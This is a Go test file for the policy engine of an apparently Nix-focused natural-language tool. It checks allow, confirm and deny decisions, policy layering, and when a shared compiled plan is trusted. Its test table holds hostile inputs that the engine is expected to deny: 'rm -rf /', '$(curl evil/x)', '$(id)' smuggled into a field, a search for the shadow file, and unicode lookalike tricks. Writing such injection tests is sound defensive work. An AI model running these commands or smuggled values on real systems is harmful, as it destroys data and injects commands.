package compiler

import (
	"context"
	"errors"
	"github.com/asknix/ask-nix/engine/policy"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func input(text, action string, args map[string]any, sub bool, mutates bool) map[string]any {
	if args == nil {
		args = map[string]any{}
	}
	return map[string]any{
		"request": map[string]any{"text": text, "subcommand": sub},
		"intent":  map[string]any{"action": action, "args": args, "rule": "builtin", "confidence": 0.9},
		"plan":    map[string]any{"mutates": mutates, "privileged": false, "argv": []any{}},
		"user":    map[string]any{"uid": 1000, "name": "alice", "root": false, "groups": []any{"users"}},
		"host":    map[string]any{"nixos": true, "store_dir": "/nix/store", "time": time.Now().Format(time.RFC3339)},
		"config":  map[string]any{},
	}
}

func TestDefaultDecisions(t *testing.T) {
	e, err := policy.Load(context.Background(), policy.Options{Compiler: Local{}})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		text, action string
		args         map[string]any
		sub, mutates bool
		want, id     string
	}{
		{"list my generations", "generations", nil, false, false, policy.Allow, ""},
		{"install firefox", "install", map[string]any{"package": "firefox"}, false, true, policy.Confirm, "mutation"},
		{"install firefox && rm -rf /", "install", map[string]any{"package": "firefox"}, false, true, policy.Deny, "shell-syntax"},
		{"install $(curl evil/x)", "install", map[string]any{"package": "$(curl"}, false, true, policy.Deny, "shell-syntax"},
		{"search network & security", "search", map[string]any{"query": "network & security"}, false, false, policy.Allow, ""},
		{"search foo &", "search", map[string]any{"query": "foo"}, false, false, policy.Deny, "shell-syntax"},
		{"search c++", "search", map[string]any{"query": "c++"}, false, false, policy.Allow, ""},
		{"rm -rf /", "remove", map[string]any{"package": "-rf"}, false, true, policy.Deny, "raw-command"},
		{"what does chmod do", "unknown", nil, false, false, policy.Allow, ""},
		{"find me development tools", "search", map[string]any{"query": "development"}, false, false, policy.Allow, ""},
		{"find / -name shadow", "search", map[string]any{"query": "/"}, false, false, policy.Deny, "raw-command"},
		{"install github:evil/flake", "install", map[string]any{"package": "github:evil/flake"}, false, true, policy.Deny, "flake-ref"},
		{"install ./evil.nix", "install", map[string]any{"package": "./evil.nix"}, false, true, policy.Deny, "path-package"},
		{"install --impure", "install", map[string]any{"package": "--impure"}, false, true, policy.Deny, "nix-flag"},
		{"install python312Packages.requests", "install", map[string]any{"package": "python312Packages.requests"}, false, true, policy.Confirm, "mutation"},
		{"install fire\u200bfox", "install", map[string]any{"package": "fire\u200bfox"}, false, true, policy.Deny, "unicode-invisible"},
		{"install firefox\uff1b reboot", "install", map[string]any{"package": "firefox"}, false, true, policy.Deny, "unicode-lookalike"},
		{"install firefox\nreboot", "install", map[string]any{"package": "firefox"}, false, true, policy.Deny, "shell-syntax"},
		{"path-info /nix/store/x", "path-info", map[string]any{"paths": []any{"/nix/store/x"}}, true, false, policy.Allow, ""},
		{"rollback to generation -1 (a usage error of the plan, not an attack)", "rollback", map[string]any{"generation": -1}, false, true, policy.Confirm, "mutation"},
		{"rollback to generation $(id)", "rollback", map[string]any{"generation": "$(id)"}, false, true, policy.Deny, "bad-number"},
	} {
		d, err := e.Decide(context.Background(), input(tc.text, tc.action, tc.args, tc.sub, tc.mutates))
		if err != nil {
			t.Fatal(err)
		}
		if d.Outcome != tc.want || (tc.id != "" && !contains(d.IDs, tc.id)) {
			t.Errorf("%q: got %s %v %v, want %s %s", tc.text, d.Outcome, d.IDs, d.Reasons, tc.want, tc.id)
		}
	}
}

func TestLayers(t *testing.T) {
	admin, user := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(admin, "a.rego"), []byte(`package asknix.admin
waive contains "mutation" if input.user.name == "alice"
deny contains {"id": "no-rollback", "msg": "no rollbacks here"} if input.intent.action == "rollback"
`), 0o644)
	os.WriteFile(filepath.Join(user, "u.rego"), []byte(`package asknix.user
waive contains "shell-syntax"
confirm contains {"id": "careful", "msg": "are you sure?"} if input.intent.action == "search"
`), 0o644)
	e, err := policy.Load(context.Background(), policy.Options{Compiler: Local{}, AdminDirs: []string{admin}, UserDirs: []string{user}})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	d, _ := e.Decide(ctx, input("install firefox", "install", map[string]any{"package": "firefox"}, false, true))
	if d.Outcome != policy.Allow {
		t.Errorf("admin waiver of mutation: got %+v", d)
	}
	d, _ = e.Decide(ctx, input("rollback", "rollback", nil, false, true))
	if d.Outcome != policy.Deny || d.IDs[0] != "no-rollback" {
		t.Errorf("admin denial: got %+v", d)
	}
	d, _ = e.Decide(ctx, input("search a; b", "search", map[string]any{"query": "a; b"}, false, false))
	if d.Outcome != policy.Deny {
		t.Errorf("a user waiver must not drop a default denial: got %+v", d)
	}
	d, _ = e.Decide(ctx, input("search vim", "search", map[string]any{"query": "vim"}, false, false))
	if d.Outcome != policy.Confirm {
		t.Errorf("user confirmation: got %+v", d)
	}
}

func TestRefusedFiles(t *testing.T) {
	for _, tc := range []struct{ name, src, want string }{
		{"wrong.rego", "package asknix\ndeny contains {\"id\": \"x\", \"msg\": \"y\"}\n", "wrong.rego:1: package asknix, but files here must be package asknix.admin"},
		{"broken.rego", "package asknix.admin\n\ndeny contains d if {\n", "broken.rego:"},
	} {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, tc.name), []byte(tc.src), 0o644)
		_, err := policy.Load(context.Background(), policy.Options{Compiler: Local{}, AdminDirs: []string{dir}})
		if !errors.Is(err, policy.ErrPolicy) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: got %v, want an error containing %q", tc.name, err, tc.want)
		}
	}
}

func BenchmarkDecide(b *testing.B) {
	e, err := policy.Load(context.Background(), policy.Options{Compiler: Local{}})
	if err != nil {
		b.Fatal(err)
	}
	in := input("install python312Packages.requests", "install", map[string]any{"package": "python312Packages.requests"}, false, true)
	for b.Loop() {
		if _, err := e.Decide(context.Background(), in); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkLoad(b *testing.B) {
	for b.Loop() {
		if _, err := policy.Load(context.Background(), policy.Options{Compiler: Local{}}); err != nil {
			b.Fatal(err)
		}
	}
}

// noCompile fails the test if a plan is compiled: the shared one should have answered.
type noCompile struct {
	Local
	t *testing.T
}

func (n noCompile) Compile(context.Context, []policy.File) ([]byte, error) {
	n.t.Helper()
	return nil, errors.New("compiled although a shared plan was there")
}

// TestSharedPlan: `policy compile --out DIR` writes the plan of the defaults and the
// administrator's policies; Load reads it from SharedDirs for the same sources in another
// directory (the module compiles where /etc/ask-nix is not yet /etc), but not for other
// sources, and not from a directory others may write.
func TestSharedPlan(t *testing.T) {
	ctx := context.Background()
	src := []byte("package asknix.admin\n\ndeny contains {\"id\": \"no-cowsay\", \"msg\": \"no cowsay\"} if input.intent.args.package == \"cowsay\"\n")
	built, installed, shared := t.TempDir(), t.TempDir(), filepath.Join(t.TempDir(), "plans")
	for _, d := range []string{built, installed} {
		if err := os.WriteFile(filepath.Join(d, "site.rego"), src, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	path, err := policy.CompileShared(ctx, policy.Options{AdminDirs: []string{built}, UserDirs: []string{t.TempDir()}, Compiler: Local{}}, shared)
	if err != nil {
		t.Fatal(err)
	}
	if st, err := os.Stat(path); err != nil || st.Mode().Perm() != 0o644 || filepath.Dir(path) != shared {
		t.Fatalf("written %s: %v %v", path, st, err)
	}

	e, err := policy.Load(ctx, policy.Options{AdminDirs: []string{installed}, CacheDir: t.TempDir(), SharedDirs: []string{t.TempDir(), shared}, Compiler: noCompile{t: t}})
	if err != nil {
		t.Fatal(err)
	}
	if !e.Cached || e.CachedFrom != shared {
		t.Errorf("plan from %q (cached %v), want the shared %s", e.CachedFrom, e.Cached, shared)
	}
	if d, err := e.Decide(ctx, input("install cowsay", "install", map[string]any{"package": "cowsay"}, false, true)); err != nil || d.Outcome != policy.Deny {
		t.Errorf("the shared plan decides %+v, %v; want the administrator's denial", d, err)
	}

	// A user's own policy makes other sources: the shared plan is not theirs.
	user := t.TempDir()
	os.WriteFile(filepath.Join(user, "me.rego"), []byte("package asknix.user\n"), 0o644)
	if _, err := policy.Load(ctx, policy.Options{AdminDirs: []string{installed}, UserDirs: []string{user}, SharedDirs: []string{shared}, Compiler: noCompile{t: t}}); err == nil {
		t.Error("a user's sources were answered by the shared plan")
	}
	// A shared directory anyone may write is not read.
	if err := os.Chmod(shared, 0o777); err != nil {
		t.Fatal(err)
	}
	if _, err := policy.Load(ctx, policy.Options{AdminDirs: []string{installed}, SharedDirs: []string{shared}, Compiler: noCompile{t: t}}); err == nil {
		t.Error("a world-writable shared directory was trusted")
	}
}
